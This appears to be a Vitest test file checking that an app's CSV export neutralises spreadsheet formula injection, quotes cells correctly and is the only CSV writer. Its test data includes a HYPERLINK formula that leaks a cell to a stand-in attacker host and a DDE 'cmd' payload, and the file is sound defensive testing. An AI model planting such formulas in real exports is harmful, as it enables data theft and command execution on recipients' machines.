import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { parse } from "csv-parse/sync";
import { csvRows, neutraliseCell, restoreCell } from "./csv";

describe("CSV writing (issue 9, finding 7)", () => {
  it("puts a single quote before every cell a spreadsheet would run as a formula (OWASP)", () => {
    for (const start of ["=", "+", "-", "@", "\t", "\r"]) {
      expect(neutraliseCell(`${start}1+1`)).toBe(`'${start}1+1`);
    }
    expect(neutraliseCell('=HYPERLINK("http://evil.example/?x",A1)')).toBe(`'=HYPERLINK("http://evil.example/?x",A1)`);
    expect(neutraliseCell(-5)).toBe("'-5");
    for (const same of ["Fontenehus", "", " =x", "a=b", "'quoted'", "0301", "true", "😀"]) expect(neutraliseCell(same)).toBe(same);
    expect(neutraliseCell(null)).toBe("");
    expect(neutraliseCell(undefined)).toBe("");
    expect(neutraliseCell(42)).toBe("42");
  });

  it("quotes every cell, doubles quotes and keeps line breaks inside cells", () => {
    const text = csvRows([
      ["id", "name"],
      ["1", 'Si "hei"\npå to linjer'],
      ["2", "=1+1"],
      ["3", ",=cmd|' /C calc'!A0"],
    ]);
    expect(text.split("\n")[0]).toBe('"id","name"');
    expect(text).toContain('"2","\'=1+1"\n');
    expect(text).toContain(`"3",",=cmd|' /C calc'!A0"\n`);
    const rows = parse(text) as string[][];
    expect(rows).toEqual([
      ["id", "name"],
      ["1", 'Si "hei"\npå to linjer'],
      ["2", "'=1+1"],
      ["3", ",=cmd|' /C calc'!A0"],
    ]);
  });

  it("reads our own neutralised cells back as they were", () => {
    for (const value of ["=1+1", "+47 22 33 44 55", "-", "@home", "\tx", "Fontenehus", "'Sjå oss'", "'", ""]) {
      expect(restoreCell(neutraliseCell(value))).toBe(value);
    }
  });

  it("is the only CSV writer: no module imports csv-stringify or sets text/csv itself", () => {
    const root = path.resolve(import.meta.dirname, "..");
    const offenders: string[] = [];
    const walk = (dir: string) => {
      for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
        const full = path.join(dir, entry.name);
        if (entry.isDirectory()) walk(full);
        else if (/\.(ts|tsx)$/.test(entry.name) && !/\.test\.ts$/.test(entry.name) && full !== path.join(root, "lib", "csv.ts")) {
          const source = fs.readFileSync(full, "utf8");
          if (/from ["']csv-stringify|require\(["']csv-stringify|text\/csv/.test(source)) offenders.push(path.relative(root, full));
        }
      }
    };
    walk(root);
    expect(offenders, "write CSV with csvRows and csvContentType from app/lib/csv.ts").toEqual([]);
  });
});
